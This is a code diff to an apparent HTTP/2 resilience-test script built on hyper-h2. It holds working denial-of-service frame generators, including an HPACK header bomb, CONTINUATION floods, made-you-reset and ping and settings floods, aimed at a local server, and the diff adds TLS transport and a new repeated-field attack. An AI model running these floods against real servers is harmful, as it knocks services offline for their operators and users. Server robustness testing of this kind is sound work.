@@ -1,11 +1,12 @@
 """What an HTTP/2 server must survive, made with hyper-h2: a JSON line on each attack, with what became of it.
 
-    http2-abuse.py PORT ATTACK…
+    http2-abuse.py tcp|tls PORT ATTACK…
 """
 
 import itertools
 import json
 import socket
+import ssl
 import sys
 import time
 
@@ -45,11 +46,15 @@ def continuation(payload):
         yield ContinuationFrame(1, payload).serialize()
 
 
-def header_bomb():
-    """One long field in the table of the connection, and requests that name it ten thousand times (RFC 7541, section 6.1)."""
-    yield request(1, block=bytes([0x82, 0x86, 0x84, 0x41, 1, 0x61]) + b"\x40\x04bomb\x7f\xa1\x1e" + b"z" * 4000)
+def repeated_field(field, times):
+    """A field in the table of the connection, and requests that name it so many times (RFC 7541, section 6.1)."""
+    yield request(1, block=bytes([0x82, 0x86, 0x84, 0x41, 1, 0x61]) + field)
     for stream in range(3, 2 * MOST_FRAMES, 2):
-        yield request(stream, block=bytes([0x82, 0x86, 0x84, 0x01, 1, 0x61]) + b"\xbe" * 10_000)
+        yield request(stream, block=bytes([0x82, 0x86, 0x84, 0x01, 1, 0x61]) + b"\xbe" * times)
+
+
+LONG_FIELD = b"\x40\x04bomb\x7f\xa1\x1e" + b"z" * 4000
+SHORT_FIELD = b"\x40\x01x\x01y"
 
 
 def empty_data():
@@ -85,7 +90,8 @@ ATTACKS = {
     "made_you_reset": made_you_reset,
     "continuation": lambda: continuation(b"".join(b"\0\1x\x64" + b"y" * 100 for _ in range(100))),
     "empty_continuation": lambda: continuation(b""),
-    "header_bomb": header_bomb,
+    "header_bomb": lambda: repeated_field(LONG_FIELD, 10_000),
+    "many_fields": lambda: repeated_field(SHORT_FIELD, 500),
     "empty_data": empty_data,
     "settings": settings,
     "ping": ping,
@@ -100,11 +106,24 @@ def batched(frames):
         yield together
 
 
-def attack(port, name):
+def connected(transport, port):
+    """A connection on which HTTP/2 is spoken: known before, or agreed on by ALPN."""
+    sock = socket.create_connection(("127.0.0.1", port), timeout=MOST_SECONDS)
+    if transport == "tcp":
+        return sock
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+    context.set_alpn_protocols(["h2"])
+    secured = context.wrap_socket(sock)
+    assert secured.selected_alpn_protocol() == "h2"
+    return secured
+
+
+def attack(transport, port, name):
     """Sends until the server closes the connection, and reads nothing before."""
     connection = H2Connection(H2Configuration(client_side=True))
     connection.initiate_connection()
-    sock = socket.create_connection(("127.0.0.1", port), timeout=MOST_SECONDS)
+    sock = connected(transport, port)
     frames, closed, began = 0, False, time.monotonic()
     try:
         sock.sendall(connection.data_to_send())
@@ -114,7 +133,7 @@ def attack(port, name):
         while sock.recv(65_536):
             pass
         closed = True
-    except (ConnectionResetError, BrokenPipeError):
+    except (ConnectionResetError, BrokenPipeError, ssl.SSLError):
         closed = True
     except TimeoutError:
         pass
@@ -123,5 +142,6 @@ def attack(port, name):
     return {"attack": name, "frames": frames, "closed": closed, "seconds": seconds}
 
 
-for name in sys.argv[2:]:
-    print(json.dumps(attack(int(sys.argv[1]), name)), flush=True)
+_, transport, port, *names = sys.argv
+for name in names:
+    print(json.dumps(attack(transport, int(port), name)), flush=True)
